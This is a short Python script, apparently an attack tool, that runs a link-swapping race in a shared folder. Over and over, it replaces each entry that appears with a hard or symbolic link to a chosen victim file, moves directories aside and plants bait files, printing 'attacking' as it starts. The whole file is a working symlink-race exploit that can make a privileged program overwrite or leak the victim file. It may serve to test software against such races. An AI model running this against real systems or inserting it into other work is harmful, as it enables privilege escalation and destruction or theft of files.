"""Swaps a link to a victim in for whatever appears in a folder, again and again, until it is ended.

Arguments: folder, victim, and where the victim shall be reached by a file that is there now and then, that file's name
and content.
"""
import os
import stat
import sys

folder, victim = sys.argv[1:3]
bait = sys.argv[3:5]
counter = 0


def fresh():
    global counter
    counter += 1
    return os.path.join(folder, ".swap-%d" % counter)


def attempt(call, *arguments):
    try:
        call(*arguments)
        return True
    except OSError:
        return False


def swap(path, status):
    """A directory cannot be renamed over, so it goes out of the way first."""
    link = fresh()
    # A second name of the victim where the kernel lets a stranger make one, else a symbolic link.
    if counter % 2 == 0 or not attempt(os.link, victim, link):
        attempt(os.symlink, victim, link)
    if stat.S_ISDIR(status.st_mode):
        attempt(os.rename, path, fresh() + "-away")
    if not attempt(os.rename, link, path):
        attempt(os.unlink, link)


def lay_bait():
    path = fresh()
    with open(path, "w") as file:
        file.write(bait[1])
    os.rename(path, os.path.join(folder, bait[0]))


print("attacking", flush=True)
turn = 0
while True:
    turn += 1
    if bait and turn % 50 == 0:
        attempt(lay_bait)
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        if ".swap-" in name:
            if name.endswith("-away"):
                attempt(os.rmdir, path)
            continue
        try:
            status = os.lstat(path)
        except OSError:
            continue
        if stat.S_ISLNK(status.st_mode):
            # Out of the way, so that the next one finds the place free.
            if turn % 7 == 0:
                attempt(os.unlink, path)
        else:
            swap(path, status)
